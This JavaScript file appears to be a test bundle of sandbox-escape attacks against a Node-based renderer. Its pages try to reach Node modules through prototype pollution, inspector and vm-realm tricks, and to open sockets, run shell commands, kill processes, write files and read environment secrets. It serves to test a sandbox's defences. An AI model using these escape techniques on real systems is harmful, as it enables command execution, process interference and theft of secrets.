// A bundle whose pages are attacks: each tries to get something out of the renderer, or to reach
// another process. `fence.rs` defines `target` before this file, and watches what it names. An
// attack that only the renderer can see returns `target.secret`, also if it is the value of `HOME`.
"use strict";

// Ways to a module of Node.
const WAYS = {
  require: (name) => require(name),
  "require with node:": (name) => require(`node:${name}`),
  "a global of --eval": (name) => globalThis[name],
  "the require of --eval": (name) => globalThis.require(name),
  "process.getBuiltinModule": (name) => process.getBuiltinModule(name),
  "process.mainModule": (name) => process.mainModule.require(name),
  "module.require": (name) => module.require(name),
  "module.constructor": (name) => module.constructor._load(name),
  createRequire: (name) => require("module").createRequire("/")(name),
  "require.main": (name) => require.main.require(name),
  "require.cache": (name) => Object.values(require.cache)[0].require(name),
  "a variable of the renderer": (name) => Module._load(name),
  "a function of the renderer": (name) => globalThis.load.constructor("return Module")()._load(name),
  "a changed method": (name) => {
    const yes = () => true;
    Object.assign(Array.prototype, { includes: yes, some: yes, indexOf: () => 0 });
    Set.prototype.has = Map.prototype.has = Object.prototype.hasOwnProperty = yes;
    return require(name);
  },
  "a name that changes": (name) => {
    const names = ["util", "util", name, name];
    return require({ toString: () => names.shift() ?? name });
  },
  "a string as code": (name) => new Function("name", "return require(name)")(name),
  "an inspector": (name) => {
    const session = new (require("inspector").Session)();
    session.connect();
    const expression = "globalThis.got = require";
    session.post("Runtime.evaluate", { expression, includeCommandLineAPI: true });
    return globalThis.got(name);
  },
  "another realm": (name) => {
    const process = "get.constructor('return process')()";
    return require("vm").runInNewContext(process, { get() {} }).getBuiltinModule(name);
  },
  "a script": (name) => require("vm").runInThisContext("require")(name),
  "a copied module": (name) => {
    let module;
    const set = function () { module = this; };
    Object.defineProperty(Object.prototype, "parent", { configurable: true, set });
    madeByNode("module:Module");
    delete Object.prototype.parent;
    return module.require(name);
  },
  "the emitter of an event": (name) => {
    let found;
    require("events").prototype.emit = function () { found ??= this; };
    process.reallyExit = () => { throw new Error(); };
    try { process.exit(); } catch {}
    return found.getBuiltinModule(name);
  },
  "a function of the stack": (name) => inStack((site) => site.getFunction(), name),
  "an object of the stack": (name) => inStack((site) => site.getThis(), name),
};

// Imports of a module.
const IMPORTS = {
  import: (name) => import(name),
  "a string as code": (name) => (0, eval)(`import("${name}")`),
  "a function of a string": (name) => new Function(`return import("${name}")`)(),
  "a promise as code": (name) => Promise.resolve(`import("${name}")`).then(eval),
  "an event as code": (name) => new Promise((resolve) => {
    globalThis.resolve = resolve;
    new (require("events"))().on("run", eval).emit("run", `import("${name}").then(resolve)`);
  }),
  "code of the renderer": (name) => new Promise((resolve) => {
    globalThis.resolve = resolve;
    Buffer.prototype.toString = () => `import("${name}").then(resolve)`;
    JSON.parse = eval;
  }),
  "a script": (name) => {
    const { Script, constants } = require("vm");
    const importModuleDynamically = constants?.USE_MAIN_CONTEXT_DEFAULT_LOADER;
    return new Script(`import("${name}")`, { importModuleDynamically }).runInThisContext();
  },
};

// Ways to the network that need no module.
const NETWORK = {
  fetch: () => fetch(target.url),
  WebSocket: () => new WebSocket(target.url.replace("http", "ws")),
  EventSource: () => new EventSource(target.url),
  "the dispatcher behind Response": () => (Response, dispatch()),
  "the dispatcher behind WebAssembly": () => {
    WebAssembly.compileStreaming(1).catch(() => {});
    runCallbacks();
    dispatch();
  },
  "the dispatcher behind a copy": () => {
    madeByNode("internal/deps/undici/undici:Response");
    dispatch();
  },
  "the class of stdout": () => connect(process.stdout.constructor),
  "the class of stderr": () => connect(process.stderr.constructor),
  "the class of stdin": () => connect(process.openStdin().constructor),
  "the class of the console's stream": () => connect(console._stdout.constructor),
  "the class of an open stream": () => connect(process._getActiveHandles()[0].constructor),
  "a copied socket": () => connect(function () { return madeByNode("net:Socket"); }),
  "a posted socket": () => connect(function () { return madeByNode("net:Socket", post); }),
  "process.binding": () => sendNative(process.binding("udp_wrap")),
  "process._linkedBinding": () => sendNative(process._linkedBinding("udp_wrap")),
  "a binding for tests": () =>
    sendNative(require("internal/test/binding").internalBinding("udp_wrap")),
};

// What modules of Node can do.
const MODULES = {
  "a datagram": () => sendDatagram(load("dgram")),
  "a datagram with its callbacks": () =>
    load("dgram").createSocket("udp4").send("", target.port, "127.0.0.1"),
  "a DNS query": () => query(load("dns")),
  "a DNS query with a promise": () => query(load("dns/promises")),
  "a connection": () => load("net").connect(target.port, "127.0.0.1"),
  "a connection of a class": () => connect(load("net").Socket),
  "a connection to a path": () => load("net").connect(target.socket),
  "a server": () => load("net").createServer().listen(0).address() && target.secret,
  http: () => load("http").get(target.url).on("error", () => {}),
  https: () => load("https").get(target.url.replace("http", "https")).on("error", () => {}),
  http2: () => load("http2").connect(target.url).on("error", () => {}),
  tls: () => load("tls").connect(target.port, "127.0.0.1").on("error", () => {}),
  "an inspector": () => (load("inspector").open(0), load("inspector").url() && target.secret),
  "a process": () => load("child_process").execSync(target.command),
  "a process in parallel": () => load("child_process").spawn("/bin/sh", ["-c", target.command]),
  "a cluster": () => {
    load("cluster").setupPrimary({ exec: "/bin/sh", execArgv: ["-c", target.command] });
    load("cluster").fork();
  },
  "a thread": () => {
    new (load("worker_threads").Worker)(`process.kill(${target.victim}, 9)`, { eval: true });
  },
  "the priority of a process": () => {
    const before = load("os").getPriority(target.victim);
    load("os").setPriority(target.victim, 19);
    return load("os").getPriority(target.victim) !== before && target.secret;
  },
  "a file": () => load("fs").writeFileSync(target.file, ""),
  "a file with its name as bytes": () => load("fs").writeFileSync(Buffer.from(target.file), ""),
  "a file behind a link": () => load("fs").writeFileSync(`/proc/self/cwd${target.file}`, ""),
  "a link": () => load("fs").symlinkSync("/", target.file),
  "an open file": () => load("fs").writeSync(9, "text"),
  "a file of WASI": () => {
    const wasi = new (load("wasi").WASI)({ version: "preview1", preopens: { "/": "/" } });
    return wasi && target.secret;
  },
  "a database": () => new (load("sqlite").DatabaseSync)(target.file).exec("CREATE TABLE t (c)"),
  "a snapshot of the heap": () => load("v8").writeHeapSnapshot(target.file),
  "a cache of code": () => load("module").enableCompileCache(target.file),
  "the home folder": () => load("os").homedir(),
  "an environment file": () => load("fs").readFileSync("/proc/self/environ"),
};

// What the object `process` can do.
const PROCESS = {
  kill: () => process.kill(target.victim, "SIGKILL"),
  "kill, a group": () => process.kill(-target.victim, "SIGKILL"),
  _kill: () => process._kill(target.victim, 9),
  _debugProcess: () => process._debugProcess(target.victim),
  execve: () => process.execve("/bin/sh", ["sh", "-c", target.command], {}),
  "report.writeReport": () => process.report.writeReport(target.file),
  "report.getReport": () => JSON.stringify(process.report.getReport()),
  env: () => JSON.stringify(process.env),
};

// Times after the page at which a callback might run.
const LATER = {
  "at the end": (callback) => process.on("exit", callback),
  "after a time": (callback) => setTimeout(callback, 0),
  "at the next turn": (callback) => setImmediate(callback),
  "at the next tick": (callback) => process.nextTick(callback),
  "after a promise": (callback) => Promise.resolve().then(callback),
  "after an error": (callback) => process.on("uncaughtException", callback),
};

function load(name) {
  for (const way of Object.values(WAYS)) {
    try {
      const module = way(name);
      if (module) return module;
    } catch {}
  }
  throw new Error(`no way to ${name}`);
}

// Returns an instance of a class that a copied object names, or what becomes of the object. The
// instance is made even if the copy is refused.
function madeByNode(name, copy = structuredClone) {
  const symbols = Object.getOwnPropertySymbols(Blob.prototype);
  const symbol = (word) => symbols.find((one) => one.description === `messaging_${word}_symbol`);
  const EventEmitter = require("events");
  const { init } = EventEmitter;
  let made;
  EventEmitter.init = function (...options) {
    made = this;
    init.apply(this, options);
  };
  Object.prototype[symbol("deserialize")] = () => {};
  class Copied extends Blob {
    [symbol("clone")] = () => ({ data: {}, deserializeInfo: name });
  }
  try {
    const copied = copy(new Copied([]));
    return made ?? copied;
  } catch {
    return made;
  } finally {
    delete Object.prototype[symbol("deserialize")];
  }
}

function post(value) {
  const { port1, port2 } = new MessageChannel();
  port1.postMessage(value);
  return require("worker_threads").receiveMessageOnPort(port2).message;
}

function inStack(valueOf, name) {
  Error.prepareStackTrace = (_, sites) => sites.map(valueOf);
  Error.stackTraceLimit = 100;
  const values = new Error().stack.filter(Boolean);
  delete Error.prepareStackTrace;
  const module = values.find((value) => value.require ?? value._load);
  return (module.require ?? module._load).call(module, name);
}

// Without callbacks, which may never run.
function sendDatagram(dgram) {
  const socket = dgram.createSocket("udp4");
  const isState = (symbol) => symbol.description === "state symbol";
  const { handle } = socket[Object.getOwnPropertySymbols(socket).find(isState)];
  sendNative({ UDP: function () { return handle; }, SendWrap: Object });
}

function sendNative({ UDP, SendWrap }) {
  const handle = new UDP();
  handle.bind("0.0.0.0", 0, 0);
  handle.send(new SendWrap(), [Buffer.from("text")], 1, target.port, "127.0.0.1", false);
}

function query({ Resolver }) {
  const resolver = new Resolver();
  resolver.setServers([`127.0.0.1:${target.port}`]);
  resolver.resolve4("home.example", () => {});
}

function connect(Socket) {
  new Socket().connect(target.port, "127.0.0.1");
}

function dispatch() {
  const isOurs = (symbol) => symbol.description.includes("undici.globalDispatcher");
  const dispatcher = globalThis[Object.getOwnPropertySymbols(globalThis).find(isOurs)];
  const ignore = () => {};
  const handler = { onConnect: ignore, onHeaders: ignore, onData: ignore, onComplete: ignore };
  Object.assign(handler, { onError: ignore, onRequestStart: ignore, onResponseError: ignore });
  dispatcher.dispatch({ origin: target.url, path: "/", method: "GET" }, handler);
}

// Callbacks and promises run when the event loop is idle, which the renderer never is.
function runCallbacks() {
  for (let round = 0; round < 20; round += 1) process._tickCallback?.();
}

// Makes the renderer fail, so that it leaves its loop and Node runs callbacks.
function leaveLoop() {
  process.on("uncaughtException", () => {});
  setTimeout(() => process.exit(), 400);
  const fail = () => { throw new Error("out of the loop"); };
  Object.assign(Buffer.prototype, { subarray: fail, readUInt32LE: fail, writeUInt32LE: fail });
}

const attacks = {};
function add(group, rows, attack) {
  for (const [name, row] of Object.entries(rows)) attacks[`${group}: ${name}`] = () => attack(row);
}
add("module", WAYS, (way) => sendDatagram(way("dgram")));
add("import", IMPORTS, (way) => way("node:dgram").then(({ default: dgram }) => sendDatagram(dgram)));
add("network", NETWORK, (attack) => attack());
add("with a module", MODULES, (attack) => attack());
add("process", PROCESS, (attack) => attack());
add("later", LATER, (when) => when(() => sendDatagram(load("dgram"))));

exports.iconSprite = () => Object.keys(attacks).join("\n");
exports.render = ({ payload }) => {
  let result;
  try {
    result = String(attacks[payload]());
  } catch (error) {
    result = String(error);
  }
  runCallbacks();
  if (!result.includes(target.secret)) leaveLoop();
  return result;
};
